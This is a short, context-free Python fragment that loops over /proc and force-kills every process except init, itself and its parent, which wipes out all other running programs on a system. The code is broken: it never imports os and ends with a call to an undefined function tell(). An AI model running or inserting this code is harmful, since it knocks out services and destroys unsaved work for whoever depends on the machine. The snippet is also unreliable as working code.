import signal

for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in (1, os.getpid(), os.getppid()):
        os.kill(int(name), signal.SIGKILL)
tell()
